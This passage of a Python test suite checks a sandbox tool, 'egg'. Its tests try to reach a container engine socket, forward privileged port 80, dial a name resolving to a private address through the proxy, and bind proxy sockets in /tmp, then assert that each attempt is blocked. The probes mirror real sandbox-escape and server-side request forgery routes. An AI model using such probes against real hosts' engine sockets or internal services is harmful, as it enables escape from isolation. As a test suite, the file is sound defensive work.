    scratch = tmp_path / "overlay"
    within = ("unshare", "-m", "--propagation", "private", "sh", "-c", PRIVATE_PATH, "sh")
    within += (str(path), str(tmp_path / "engine.sock"), str(scratch))
    reach = f"import socket; socket.socket(socket.AF_UNIX).connect({str(path)!r})"
    subprocess.run([*within, sys.executable, "-c", reach], check=True, timeout=30)
    deadline = time.monotonic() + 10
    while not listener.hits and time.monotonic() < deadline:  # (its thread records it)
        time.sleep(0.02)
    assert listener.hits, "the stand-in is not reachable at its path where egg runs"
    listener.hits.clear()
    assert not os.path.lexists(path), "the stand-in leaked onto the host"
    yield EngineSocket(path, listener, within)


def test_container_engine_socket_is_unreachable(box: Box, engine_socket: EngineSocket) -> None:
    """Masked by the policy's own deny (egg explain names it), not only kept out of reach by
    the socket gate or by /run's being the sandbox's own: what the path shows is not a socket."""
    path = str(engine_socket.path)
    found = box.probe(
        "import stat\n"
        f"mode = os.lstat({path!r}).st_mode if os.path.lexists({path!r}) else None\n"
        "kind = None if mode is None else 'socket' if stat.S_ISSOCK(mode) else 'mask'\n"
        f"report(kind=kind, connect=attempt(connect, socket.AF_UNIX, {path!r}))",
        within=engine_socket.within,
    )

    assert found["connect"] != "ok"
    assert found["kind"] == "mask", found
    if engine_socket.listener is not None:
        assert engine_socket.listener.received_nothing()


def test_forwarding_a_privileged_local_port_is_refused_before_anything_starts(box: Box) -> None:
    result = box.exec("sh", "-c", "touch started", config={"network": {"local_ports": [80]}})

    assert result.returncode == 125
    assert "local_ports 80" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert not (box.workspace / "started").exists()


def test_observe_mode_never_dials_a_name_that_resolves_to_a_private_address(
    box: Box, listen: Listen
) -> None:
    """Observe lets unlisted *names* through, but a name resolving to a private, loopback or
    link-local address is refused in observe mode too (it would reach the host's or the cloud's
    services), and logged as such."""
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
    log = box.home / "network.log"

    found = box.probe(
        PROXY + "report(**via_proxy('inner.example.com:443', b'x'))",
        config=POLICIES["observe"],
        options=["--network-log", str(log)],
        env=seam(("inner.example.com", "10.1.2.3", server.port)),
    )

    assert found["status"] == 403 and server.hits == []
    (record,) = log_lines(log)
    assert record["decision"] == "deny" and "non-public address 10.1.2.3" in record["reason"]


def test_a_deep_egg_home_keeps_the_proxys_sockets_out_of_tmp(box: Box, listen: Listen) -> None:
    """Too deep for a socket's path: the proxy binds through /proc/self/fd in the run's own
    directory (hidden from every sandbox), never in a /tmp directory another sandbox could be
    given with rw:/tmp."""
    server = listen(socket.AF_INET, ("127.0.0.1", 0), echo=True)
    deep = box.mkdir(box.home / ("d" * 100), mode=0o700)
    # egg's own temporary directory, watched: the host's /tmp is shared with whatever else runs
    tmp = box.mkdir(box.root / "tmp")

    found = box.probe(
        PROXY + "mounted = [l.split()[3] for l in open('/proc/self/mountinfo')"
        " if l.split()[4] == '/run/egg-net']\n"
        "report(mounted=mounted, **via_proxy('api.example.com:443', b'deep'))",
        config=POLICIES["allowlist"],
        env={
            "EGG_HOME": str(deep),
            "TMPDIR": str(tmp),
            **seam(("api.example.com", PUBLIC, server.port)),
        },
    )

    assert (found["status"], found["reply"]) == (200, "pong:deep")
    # where the sockets live on the host: the bind mount's source, as the kernel says
    assert found["mounted"] and all(str(deep) in m for m in found["mounted"]), found
    assert os.listdir(tmp) == []
